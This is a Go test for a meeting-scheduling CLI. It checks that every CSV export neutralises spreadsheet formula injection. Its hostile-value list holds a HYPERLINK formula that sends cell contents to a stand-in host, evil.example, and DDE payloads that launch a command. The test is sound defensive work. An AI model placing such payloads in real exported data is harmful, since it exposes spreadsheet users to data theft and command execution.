package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"pitchmatch/event"
	"pitchmatch/storage"
)

// hostile are values a spreadsheet would run as formulas (OWASP CSV
// injection), each of which the event rules accept as a name.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`'=already quoted`,
	"=1+1\n+2 on the next line",
}

// TestEveryCSVNeutralisesFormulas exports every CSV the CLI writes — the
// record exports of each kind and the schedule for all, for a startup and
// for a company — from an event whose names are formulas, and checks every
// cell of every file.
func TestEveryCSVNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	path := filepath.Join(dir, "hostile.db")
	db, err := storage.Open(ctx, path)
	if err != nil {
		t.Fatal(err)
	}
	b := &event.Batch{
		Event: &event.Event{Name: event.T(hostile[0], hostile[1]), Venue: event.T(hostile[2], ""), TimeZone: "Asia/Tokyo",
			SlotMinutes: 30, Tables: 2, Days: []event.Day{{Date: "2026-10-14", Start: "10:00", Slots: 4}}},
		Companies: []*event.Company{{ID: "-C1", Name: event.T(hostile[3], hostile[0]), Description: event.T(hostile[5], hostile[4]),
			Scouts: []string{hostile[1], hostile[2]}}},
		Themes:       []*event.Theme{{ID: "-T1", CompanyID: "-C1", Title: event.T(hostile[1], hostile[2]), Description: event.T(hostile[5], "")}},
		Availability: []event.Availability{{Kind: event.KindStartup, ID: "-S1", Unavailable: []int{1}}},
	}
	for i, h := range hostile {
		id := "-S" + string(rune('1'+i))
		name := h
		if strings.Contains(h, "\n") {
			name = hostile[0] // names are one line; the summary keeps the line break
		}
		b.Startups = append(b.Startups, &event.Startup{ID: id, Name: event.T(name, name), ProductName: event.T(name, name),
			ProductSummary: event.T(h, h), Website: "https://x.example/" + h[:1]})
		b.Meetings = append(b.Meetings, event.Meeting{StartupID: id, CompanyID: "-C1", ThemeID: "-T1",
			Slot: i % 4, Table: i / 4, Status: event.StatusProposed})
	}
	b.Meetings = b.Meetings[:4]
	if err := db.Import(ctx, "test", b); err != nil {
		t.Fatal(err)
	}
	db.Close()

	exports := [][]string{
		{"--kind", "startups"}, {"--kind", "companies"}, {"--kind", "themes"}, {"--kind", "availability"},
		{"--for", "all"}, {"--for", "startup:-S1"}, {"--for", "company:-C1"},
	}
	seen := map[string]bool{}
	for _, ex := range exports {
		out := filepath.Join(dir, strings.NewReplacer(":", "_", "-", "").Replace(ex[1])+".csv")
		args := append([]string{"export", "--db", path, "--format", "csv", "--out", out}, ex...)
		if code, _, errOut := cli(t, args...); code != 0 {
			t.Fatalf("%v: exit %d: %s", ex, code, errOut)
		}
		data, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF"))))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%v: %v", ex, err)
		}
		if len(recs) < 2 {
			t.Fatalf("%v: %d rows", ex, len(recs))
		}
		for i, rec := range recs {
			for j, cell := range rec {
				if !event.CSVSafe(cell) {
					t.Errorf("%v row %d column %d: formula cell %q", ex, i+1, j+1, cell)
				}
				for _, h := range hostile {
					if event.CSVUncell(cell) == h {
						seen[h] = true
					}
				}
			}
		}
	}
	for _, h := range hostile {
		if !seen[h] {
			t.Errorf("hostile value %q never exported (the test would pass vacuously)", h)
		}
	}
}
